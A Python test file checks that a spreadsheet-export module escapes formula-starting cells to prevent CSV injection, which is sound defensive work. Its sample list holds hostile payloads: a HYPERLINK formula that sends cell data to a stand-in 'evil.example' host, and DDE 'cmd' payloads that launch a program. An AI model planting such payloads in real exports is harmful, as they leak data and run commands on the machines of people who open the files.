"""Tables: no cell of an export is a formula, and what is written is read again as it was."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core import sheets

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "  \t -1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "'=1",
    "''=1",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "=cmd|'/c calc'!A1",
    "-2+3+cmd|' /C calc'!A0",
]
CELL = st.text(st.sampled_from("=+-@＝' \t\r\n\u00a0\u200b\ufeffab,;\""), max_size=8)


def cells(text):
    return [cell for record in csv.reader(io.StringIO(text, newline="")) for cell in record]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_written_as_text(formula):
    [cell] = cells(sheets.write([[formula]]))
    assert cell == f"'{formula}"


@pytest.mark.parametrize("text", ["a=1", "10 - 2", "'quoted'", "1+1", "", " ", "a\n=1", "mail@example.com"])
def test_ordinary_text_stays_as_it_is(text):
    assert cells(sheets.write([[text]])) == [text]


@given(CELL)
def test_no_cell_begins_a_formula_whatever_is_left_out_before_it(text):
    [cell] = cells(sheets.write([[text]]))
    assert cell.lstrip(" \t\r\n\u00a0\u200b\ufeff")[:1] not in tuple("=+-@＝＋－＠")


@given(st.tuples(CELL, CELL))
def test_what_is_written_is_read_again(pair):
    question, answer = f"q{pair[0]}", f"a{pair[1]}"
    guarded = sheets.write([("question", "answer"), (f"={question}", answer), (question, f"-{answer}")])
    records, _numbers = sheets.read(guarded)
    assert records == [{"question": f"={question}", "answer": answer}, {"question": question, "answer": f"-{answer}"}]
